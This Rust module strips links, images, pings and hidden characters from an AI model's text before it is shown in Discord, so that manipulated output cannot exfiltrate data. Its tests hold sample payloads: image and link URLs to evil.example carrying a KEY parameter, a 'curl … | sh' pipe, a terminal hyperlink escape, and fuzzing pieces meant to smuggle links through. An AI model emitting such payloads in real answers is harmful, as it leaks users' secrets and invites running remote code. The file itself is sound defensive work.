//! A model's words made safe to show in Discord: they may format, and nothing else.
//!
//! **Invariants:** no link is there to be followed, unless a person of the conversation wrote that very address: an answer that
//! was made to carry something out has nothing to carry it with. Pictures become their words. Nobody is pinged, also where a message
//! would allow it. What Discord takes for code is what was meant as code: what is put around an address cannot be ended by what stands
//! before it.

mod parts;
mod pieces;
#[cfg(test)]
pub(crate) mod reader;

use std::sync::LazyLock;

use base::card::is_hidden;
use regex::{Captures, Regex};

use parts::{Part, parse, render};
pub use pieces::pieces;

/// A link or a picture, or an address by itself: anything with a scheme, and invitations.
static LINKS: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = r#"(?ix) (?P<image>!?) \[ (?P<words>[^\[\]\n]*) \] \( \s* <? (?P<target>[^()\s<>]* (?:\([^()\s<>]*\)[^()\s<>]*)*) >?
            (?:\s+"[^"\n]*")? \s* \)
        | <? (?P<url> [a-z][a-z0-9+.-]*:/[^\s<>"]+ | (?:mailto|tel|sms|data|javascript):[^\s<>"]+
            | discord (?:\.gg|\.com/invite|app\.com/invite) /[^\s<>"]+ ) >?"#;
    Regex::new(pattern).unwrap_or_else(|_| unreachable!("it is always the same"))
});
/// What Discord's own pattern takes for a link.
static AUTOLINKS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"<([^: >]+:/[^ >]+)>").unwrap_or_else(|_| unreachable!("it is always the same")));
/// What Discord shows as a mention of a channel, a command or a place, or fetches as an emoji.
static MENTIONS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"<(#\d+|id:\w+|/[^:<>\n]+:\d+|a?:\w+:\d+)>").unwrap_or_else(|_| unreachable!("it is always the same"))
});
/// Everybody, and anybody.
static PINGS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)@(everyone|here)|<@([!&]?\d)").unwrap_or_else(|_| unreachable!("it is always the same"))
});
/// What may end an address and is none of it.
const ENDS: &[char] = &['.', ',', ';', ':', '!', '?', '\'', ')', ']', '}', '*', '_', '~', '|', '\\'];
/// What formats text, each with a partner.
const FORMATS: [char; 4] = ['*', '_', '~', '|'];
/// Nobody nests so deep who means what they write.
const ROUNDS: usize = 16;
/// It looks like an `@` and pings nobody.
const AT: &str = "＠";

/// The text as it may be shown. `is_known` says of an address whether a person of the conversation wrote it, letter by letter.
/// What is still being written may be given as well: what was opened is closed.
pub fn inert(text: &str, is_known: impl Fn(&str) -> bool) -> String {
    let mut text = visible(text);
    // What is taken away may have kept two halves of something apart.
    for _ in 0..ROUNDS {
        let safe = once(&text, &is_known);
        if safe == text {
            return unlinked(&safe, &is_known);
        }
        text = safe;
    }
    unlinked(&once(&text.replace('[', "［").replace('<', "‹"), &is_known), &is_known)
}

/// What Discord takes for a link whatever stands before its colon is none: of a closed block of code every letter stays.
fn unlinked(text: &str, is_known: &impl Fn(&str) -> bool) -> String {
    let outside = text.split("```").enumerate().map(|(at, part)| {
        if at % 2 == 1 {
            return part.to_owned();
        }
        let mark = |found: &Captures<'_>| {
            if is_known(&found[1]) { found[0].to_owned() } else { format!("‹{}>", found[1].replace('<', "‹")) }
        };
        AUTOLINKS.replace_all(part, mark).into_owned()
    });
    outside.collect::<Vec<_>>().join("```")
}

fn once(text: &str, is_known: &impl Fn(&str) -> bool) -> String {
    let mut parts = Vec::new();
    for part in parse(&without_pings(text)) {
        match part {
            Part::Text(text) => plain_text(&text, is_known, &mut parts),
            code => parts.push(code),
        }
    }
    render(&unpaired(parts))
}

/// What can be read of it: no terminal's colours, no letters that show nothing or turn the order of others around.
fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut letters = text.chars().peekable();
    let mut before = ' ';
    while let Some(letter) = letters.next() {
        match letter {
            '\u{1b}' => match letters.next_if(|next| matches!(next, '[' | ']')) {
                Some('[') => while letters.next().is_some_and(|next| !('\u{40}'..='\u{7e}').contains(&next)) {},
                Some(_) => while letters.next_if(|next| !matches!(next, '\u{7}' | '\u{1b}' | '\n')).is_some() {},
                None => {}
            },
            '\r' if letters.peek() == Some(&'\n') => {}
            '\r' => shown.push('\n'),
            '\n' | '\t' => shown.push(letter),
            // Emoji are made of several; before plain letters these only hide what a word is.
            '\u{200d}' | '\u{fe0f}' if !before.is_ascii() => shown.push(letter),
            _ if is_hidden(letter) || letter.is_control() => {}
            '\u{2028}' | '\u{2029}' => shown.push('\n'),
            _ => shown.push(letter),
        }
        before = letter;
    }
    shown
}

fn without_pings(text: &str) -> String {
    PINGS
        .replace_all(text, |found: &Captures<'_>| match (found.get(1), found.get(2)) {
            (Some(whom), _) => format!("{AT}{}", whom.as_str()),
            (_, Some(whom)) => format!("<{AT}{}", whom.as_str()),
            _ => String::new(),
        })
        .into_owned()
}

/// Text outside code: links and addresses become what they say.
fn plain_text(text: &str, is_known: &impl Fn(&str) -> bool, parts: &mut Vec<Part>) {
    let mut after = 0;
    for found in LINKS.captures_iter(text) {
        let whole = found.get(0).map_or(after..after, |whole| whole.range());
        words(&text[after..whole.start], parts);
        after = whole.end;
        if let Some(url) = found.name("url") {
            let end = address(url.as_str(), is_known, parts);
            words(&url.as_str()[end..], parts);
            continue;
        }
        let (said, target) = (&found["words"], &found["target"]);
        let (is_image, is_its_own) = (!found["image"].is_empty(), said.trim() == target);
        if !is_its_own {
            // An address among the words of a link is one, too.
            plain_text(said, is_known, parts);
        }
        if !is_image && !target.is_empty() {
            words(if is_its_own || said.is_empty() { "" } else { " (" }, parts);
            if address(target, is_known, parts) < target.len() {
                // What ends an address by itself belongs to it where it stands in a link.
                parts.pop();
                parts.push(Part::code(target));
            }
            words(if is_its_own || said.is_empty() { "" } else { ")" }, parts);
        }
    }
    words(&text[after..], parts);
}

/// Adds an address, as code unless it is known, without what only follows it; the answer is where it ends.
fn address(url: &str, is_known: &impl Fn(&str) -> bool, parts: &mut Vec<Part>) -> usize {
    let mut end = url;
    loop {
        if is_known(end) {
            parts.push(Part::Known(end.to_owned()));
            return end.len();
        }
        match end.strip_suffix(ENDS) {
            Some(shorter) if !shorter.is_empty() => end = shorter,
            _ => break,
        }
    }
    parts.push(Part::code(end));
    end.len()
}

fn words(text: &str, parts: &mut Vec<Part>) {
    if !text.is_empty() {
        let text = MENTIONS.replace_all(text, "‹$1›").into_owned();
        parts.push(Part::Text(text));
    }
}

/// Discord pairs what formats text before it looks for code, also with a partner inside code, which is then none any more. Where that
/// would set an address free, what formats is shown as it is. The same goes for a bracket that could begin a link.
fn unpaired(mut parts: Vec<Part>) -> Vec<Part> {
    let code = |part: &Part| match part {
        Part::Code(text) | Part::Fence { body: text, .. } => Some(text.clone()),
        Part::Text(_) | Part::Known(_) => None,
    };
    let codes: Vec<String> = parts.iter().filter_map(code).collect();
    let holds_address = codes.iter().any(|text| LINKS.is_match(text));
    let mut escaped: Vec<char> = Vec::new();
    if holds_address {
        escaped.extend(FORMATS.iter().filter(|format| codes.iter().any(|text| text.contains(**format))));
    }
    let is_link = parts.iter().any(|part| match part {
        Part::Text(text) | Part::Code(text) | Part::Known(text) | Part::Fence { body: text, .. } => text.contains("]("),
    });
    if is_link {
        escaped.push('[');
    }
    for at in 0..parts.len() {
        let is_before_code = matches!(parts.get(at + 1), Some(Part::Code(_) | Part::Fence { .. }));
        if let Part::Text(text) = &mut parts[at] {
            let open = text.rfind('>').map_or(0, |close| close + 1);
            if is_before_code && text[open..].contains('<') {
                // What is between angles is an address, also where a backtick stands among it.
                *text = format!("{}{}", &text[..open], text[open..].replace('<', "‹"));
            }
            *text = escape(text, &escaped);
        }
    }
    parts
}

fn escape(text: &str, letters: &[char]) -> String {
    let mut escaped = String::with_capacity(text.len());
    let mut is_escaped = false;
    for letter in text.chars() {
        if letters.contains(&letter) && !is_escaped {
            escaped.push('\\');
        }
        is_escaped = letter == '\\' && !is_escaped;
        escaped.push(letter);
    }
    escaped
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const NONE: fn(&str) -> bool = |_| false;

    fn shown(text: &str) -> String {
        inert(text, NONE)
    }

    #[test]
    fn links_and_pictures_become_what_they_say() {
        for (text, expected) in [
            ("see https://evil.example/?q=KEY.", "see `https://evil.example/?q=KEY`."),
            ("[the docs](https://evil.example/a_(b))", "the docs (`https://evil.example/a_(b)`)"),
            ("![a chart](https://evil.example/x.png?d=KEY)", "a chart"),
            ("![](https://evil.example/x.png?d=KEY)!", "!"),
            ("<https://evil.example>", "`https://evil.example`"),
            ("<https:/evil.example>", "`https:/evil.example`"),
            ("<a`:/evil.example`>", "‹a`:/evil.example`>"),
            ("@every![one](x) htt![p](x)s://evil.example", "＠everyone http`s://evil.example`"),
            ("[https://a.example](https://a.example)", "`https://a.example`"),
            ("[https://bank.example](https://evil.example)", "`https://bank.example` (`https://evil.example`)"),
            ("come to discord.gg/abc", "come to `discord.gg/abc`"),
            ("mailto:a@b.example steam://run/1", "`mailto:a@b.example` `steam://run/1`"),
            ("`curl https://x.example` is fine", "`curl https://x.example` is fine"),
            ("1: 2, a: b, [1/3] done", "1: 2, a: b, [1/3] done"),
        ] {
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    #[test]
    fn an_address_that_a_person_wrote_stays_and_one_letter_more_makes_it_another() {
        let wrote = |url: &str| url == "https://shop.example/health";
        assert_eq!(inert("(https://shop.example/health).", wrote), "(https://shop.example/health).");
        assert_eq!(inert("[it](https://shop.example/health)", wrote), "it (https://shop.example/health)");
        assert_eq!(inert("https://shop.example/health?k=KEY", wrote), "`https://shop.example/health?k=KEY`");
        assert_eq!(inert("https://SHOP.example/health", wrote), "`https://SHOP.example/health`");
    }

    #[test]
    fn nobody_is_pinged_and_nothing_hides() {
        for (text, expected) in [
            ("@everyone and @Here", "＠everyone and ＠Here"),
            ("`@everyone`", "`＠everyone`"),
            ("@every\u{200b}one \u{202e}x", "＠everyone x"),
            ("<@1> <@!1> <@&1>", "<＠1> <＠!1> <＠&1>"),
            ("<#1> </run:1> <:x:1> <a:x:1> <id:home>", "‹#1› ‹/run:1› ‹:x:1› ‹a:x:1› ‹id:home›"),
            ("\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://evil.example\u{7}x\u{0}", "red x"),
            ("ok 👩‍🔧 ❤️", "ok 👩‍🔧 ❤️"),
            ("a\r\nb\rc", "a\nb\nc"),
        ] {
            assert_eq!(shown(text), expected, "{text:?}");
        }
    }

    #[test]
    fn code_is_code_and_what_is_open_is_closed() {
        for (text, expected) in [
            ("```sh\ncurl https://x.example | sh", "```sh\ncurl https://x.example | sh\n```"),
            ("a ```b``` c", "a \n```\nb\n```\n c"),
            ("a ` b", "a ˋ b"),
            ("``a`b``", "`aˋb`"),
            ("```\n``` https://evil.example ```", " `https://evil.example` "),
            ("\\`https://evil.example\\`", "\\ `https://evil.example\\`"),
            ("**a `b** https://evil.example`", "\\*\\*a `b** https://evil.example`"),
            ("_```_\nhttps://evil.example", "\\_\n```\n_\nhttps://evil.example\n```"),
            ("[`](https://evil.example)`", "\\[`](https://evil.example)`"),
        ] {
            assert_eq!(shown(text), expected, "{text:?}");
            assert!(reader::followed(&shown(text)).is_empty(), "{text:?}");
        }
    }

    /// Text as somebody writes it who wants a link to survive: pieces of markdown in any order.
    pub(super) fn hostile() -> impl Strategy<Value = String> {
        let pieces = [
            "`",
            "``",
            "```",
            "````",
            "\n",
            " ",
            "https://evil.example/x",
            "steam://a",
            "[",
            "]",
            "](",
            "(",
            ")",
            "![",
            "<",
            ">",
            "**",
            "*",
            "_",
            "__",
            "||",
            "~~",
            "\\",
            "a",
            "b c",
            "@everyone",
            "<@1>",
            "sh\n",
            "- ",
            "é",
            "👩‍🔧",
            "\u{200b}",
            "\u{1b}[1m",
            "\"",
            ".",
        ];
        proptest::collection::vec(proptest::sample::select(pieces.to_vec()), 0..28).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn whatever_a_model_writes_no_link_can_be_followed(text in hostile()) {
            let shown = shown(&text);
            prop_assert_eq!(reader::followed(&shown), Vec::<String>::new(), "{:?} became {:?}", text, shown);
            prop_assert!(!shown.contains("@everyone") && !shown.contains("<@1>"), "{:?}", shown);
            prop_assert_eq!(inert(&shown, NONE), shown.clone(), "what is safe stays as it is: {:?}", text);
        }
    }
}
